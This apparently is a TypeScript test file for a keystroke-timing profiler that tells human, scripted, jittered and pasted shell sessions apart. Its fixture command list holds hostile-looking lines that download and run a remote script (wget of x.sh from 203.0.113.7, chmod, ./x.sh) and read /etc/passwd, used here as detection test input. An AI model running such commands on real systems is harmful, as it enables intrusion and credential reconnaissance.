import { expect, test } from 'vitest';
import type { SessionProfile } from '../../src/contract/session-profile.js';
import { profileSession } from '../../src/keystroke/profile.js';
import { createTape, humanGaps, normal, readFixture, seeded, type Tape } from './typing.js';

type Gap = (char: string, at: number) => number;
const LINES = [
  'cd /tmp',
  'wget http://203.0.113.7/x.sh',
  'chmod +x x.sh',
  './x.sh',
  'uname -a',
  'cat /etc/passwd',
  'ps aux | grep ssh',
  'whoami',
];
const SEEDS = Array.from({ length: 40 }, (_, i) => i + 1);

function typed(gap: Gap, seed: number, lines = 6): Tape {
  const random = seeded(seed * 7919);
  const tape = createTape();
  for (let i = 0; i < lines; i++) tape.type(`${LINES[Math.floor(random() * LINES.length)] ?? ''}\r`, gap);
  return tape;
}

const rowOf = (tape: Tape): SessionProfile => profileSession(tape.session(), 0);

/** How often each class was given, over all seeds. */
function classes(gapOf: (random: () => number) => Gap): Record<string, number> {
  const counts: Record<string, number> = {};
  for (const seed of SEEDS) {
    const { kd_class } = rowOf(typed(gapOf(seeded(seed)), seed));
    counts[kd_class] = (counts[kd_class] ?? 0) + 1;
  }
  return counts;
}

/** Waits after Enter, else as `inner` says. */
function bot(waitMs: () => number, inner: () => number, spaceMs?: number): Gap {
  let last = '\r';
  return (char) => {
    const after = last;
    last = char;
    return after === '\r' ? waitMs() : after === ' ' && spaceMs !== undefined ? spaceMs : inner();
  };
}

/** As an OpenSSH client does that sends every 20 ms. */
function onGrid(gap: Gap, gridMs = 20, shakeMs: () => number = () => 0): Gap {
  let trueMs = 0;
  let sentMs = 0;
  let tick = 0;
  return (char, at) => {
    trueMs += gap(char, at);
    tick = Math.max(tick + 1, Math.ceil(trueMs / gridMs));
    const before = sentMs;
    sentMs = Math.max(before, tick * gridMs + shakeMs());
    return sentMs - before;
  };
}

test.each([
  [
    'a bot at 40 ms a key that sleeps a second or three between commands',
    (r: () => number) =>
      bot(
        () => 1000 + 2000 * r(),
        () => 40 + 2 * r(),
      ),
  ],
  [
    'a bot that sleeps less than a burst’s end',
    (r: () => number) =>
      bot(
        () => 600,
        () => 100 + 4 * r(),
      ),
  ],
  [
    'a bot that sleeps after words, too',
    (r: () => number) =>
      bot(
        () => 600,
        () => 50 + r(),
        300,
      ),
  ],
  [
    'a bot that sends as fast as it can',
    (r: () => number) =>
      bot(
        () => 900 * r(),
        () => 0.3 + r(),
      ),
  ],
  [
    'a bot at 50 ms a key behind a 20 ms grid',
    () =>
      onGrid(
        bot(
          () => 700,
          () => 50,
          300,
        ),
      ),
  ],
])('%s is scripted', (_, gapOf) => {
  expect(classes(gapOf)).toEqual({ scripted: SEEDS.length });
});

test.each([0.38, 0.45, 0.5])('a tool with log-normal jitter of sigma %d is jittered, whatever it sleeps', (sigma) => {
  for (const waitMs of [400, 1200, 3000]) {
    const found = classes((r) =>
      bot(
        () => waitMs,
        () => 100 * Math.exp(sigma * normal(r)),
      ),
    );
    expect(found['jittered']).toBeGreaterThanOrEqual(SEEDS.length * 0.85);
    expect(found['human'] ?? 0).toBe(0);
  }
});

test.each([70, 110])(
  'people with a median of %i ms are people, and never scripts, on a 20 ms grid as well',
  (medianMs) => {
    const shake = seeded(99);
    for (const found of [
      classes((r) => humanGaps(r, medianMs)),
      classes((r) => onGrid(humanGaps(r, medianMs))),
      classes((r) => onGrid(humanGaps(r, medianMs), 20, () => 3 * shake())),
    ]) {
      expect(found['human']).toBeGreaterThanOrEqual(SEEDS.length * 0.9);
      expect(found['scripted'] ?? 0).toBe(0);
    }
  },
);

test('a client’s 20 ms grid is found in a person’s typing, through the network’s shaking, and none where there is none', () => {
  const shake = seeded(7);
  for (const seed of SEEDS) {
    expect(rowOf(typed(onGrid(humanGaps(seeded(seed))), seed)).kd_timing_grid_ms).toBe(20);
    expect(
      rowOf(
        typed(
          onGrid(humanGaps(seeded(seed)), 20, () => 2 * shake()),
          seed,
        ),
      ).kd_timing_grid_ms,
    ).toBe(20);
    expect(rowOf(typed(humanGaps(seeded(seed)), seed)).kd_timing_grid_ms).toBeNull();
    expect(rowOf(typed(() => 100, seed)).kd_timing_grid_ms).toBeNull();
  }
});

test('the grid moves no edge of the histogram', () => {
  const row = rowOf(createTape().type('a'.repeat(31), (_, at) => [100, 180, 200, 140][at % 4] ?? 0));
  expect([row.kd_pause_hist_burst, row.kd_pause_hist_think]).toEqual([22, 8]);
});

test.each(['x', '\x7f', '\x1b[B'])('a held key (%j) makes no script of a person', (key) => {
  const random = seeded(5);
  const hold = (tape: Tape) => {
    tape.wait(300).key(key).wait(420);
    for (let i = 0; i < 60; i++) tape.key(key).wait(33 + Math.round(2 * random()));
  };
  const tape = createTape().type('cat /etc/hosts | sort | uniq -c', humanGaps(random));
  hold(tape);
  tape.type('wget http://203.0.113.7/x.sh\r', humanGaps(random));
  expect(rowOf(tape)).toMatchObject({ kd_class: 'human' });
  const alone = createTape();
  hold(alone);
  expect(rowOf(alone)).toMatchObject({ kd_class: 'unknown', kd_class_reason: 'too_few_intervals' });
});

test('a session of pastes is pasted; one paste in much typing is not', () => {
  const pastes = createTape();
  for (const line of LINES)
    pastes
      .wait(2000)
      .key(`\x1b[200~${line} && echo\x1b[201~`, { echo: line })
      .wait(500)
      .type('\r', () => 0);
  expect(rowOf(pastes)).toMatchObject({ kd_class: 'pasted', kd_class_reason: 'paste_share' });
  const typist = typed(humanGaps(seeded(8)), 8)
    .wait(900)
    .key('x y '.repeat(500));
  expect(rowOf(typist)).toMatchObject({ kd_class: 'human', paste_count: 1, pasted_chars: 2000 });
});

test('below 20 intervals inside bursts nobody is anything', () => {
  const few = (keys: number) => rowOf(createTape().type('a b'.repeat(20).slice(0, keys), humanGaps(seeded(4))));
  expect(few(20)).toMatchObject({ kd_class: 'unknown', kd_class_reason: 'too_few_intervals', kd_class_confidence: 0 });
  expect(few(45).kd_class).not.toBe('unknown');
  const slow = rowOf(createTape().type('a'.repeat(60), () => 1600));
  expect(slow).toMatchObject({ kd_class: 'unknown', kd_class_reason: 'too_few_intervals' });
});

test('between the bands the class is unknown, and the reason says where', () => {
  const r = seeded(12);
  const row = rowOf(typed(() => 75 + 50 * r(), 3, 12));
  expect(row).toMatchObject({ kd_class: 'unknown', kd_class_reason: 'burst_cov_0.1_to_0.3', kd_class_confidence: 0 });
});

test('confidence grows with the evidence and stays below 1', () => {
  const sure = [3, 10, 60].map((lines) => rowOf(typed(() => 80, 5, lines)).kd_class_confidence);
  expect([...sure].sort((a, b) => a - b)).toEqual(sure);
  expect(sure[0]).toBeGreaterThan(0.5);
  expect(sure[2]).toBeLessThan(1);
  expect(profileSession(readFixture('wget-scanme.jsonl'), 0)).toMatchObject({ kd_class: 'human' });
});
